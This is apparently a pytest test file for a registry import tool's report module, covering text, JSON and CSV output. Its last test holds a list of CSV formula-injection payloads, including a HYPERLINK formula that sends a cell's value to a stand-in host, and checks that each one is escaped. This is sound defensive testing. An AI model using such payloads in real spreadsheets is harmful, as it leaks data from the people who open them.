"""The report: text for the terminal, CSV and JSON files."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from registry.errors import InputError
from registry.report import ImportReport, RowIssue, Summary

ISSUES = (
    RowIssue(7, "照片", "no_face", "p.jpg: no face found", "张三"),
    RowIssue(3, "证件号码", "bad_id_number", "ID number ***1234 has a wrong check digit", "李四"),
)


def _report(*, partial: bool = False, written: bool = False) -> ImportReport:
    return ImportReport(
        source="reg.csv",
        site="s",
        rows=10,
        partial=partial,
        written=written,
        summary=Summary(created=8, failed=2),
        issues=ISSUES,
    )


def test_text_lists_rows_in_order_and_the_summary() -> None:
    text = _report().render_text()
    lines = text.splitlines()
    assert lines[0].startswith("row 3 (李四), 证件号码:")
    assert lines[1].startswith("row 7 (张三), 照片:")
    assert (
        "would create 8, update 0, leave unchanged 0, move out 0; failed 2 (nothing written)"
        in text
    )
    assert "--partial" in text
    assert "--partial" not in _report(partial=True, written=True).render_text()


def test_text_is_capped() -> None:
    text = _report().render_text(max_issues=1)
    assert "... and 1 more" in text


def test_json_and_csv_files(tmp_path: Path) -> None:
    report = _report()
    report.write(tmp_path / "r.json")
    data = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    assert [i["row"] for i in data["issues"]] == [3, 7]
    assert data["summary"]["failed"] == 2
    report.write(tmp_path / "r.csv")
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["row"], r["column"], r["reason"]) for r in rows] == [
        ("3", "证件号码", "bad_id_number"),
        ("7", "照片", "no_face"),
    ]
    with pytest.raises(InputError):
        report.write(tmp_path / "r.txt")


HOSTILE = [
    '=HYPERLINK("http://x.example/?d="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_report_cells_are_never_formulas(tmp_path: Path, value: str) -> None:
    # The name and column come from the register, and messages quote its cells.
    issue = RowIssue(4, value, "bad_role", value, value)
    report = ImportReport(source="reg.csv", site="s", rows=1, issues=(issue,))
    report.write(tmp_path / "r.csv")
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as handle:
        (_header, row) = list(csv.reader(handle))
    assert row == ["4", "'" + value, "bad_role", "'" + value, "'" + value]
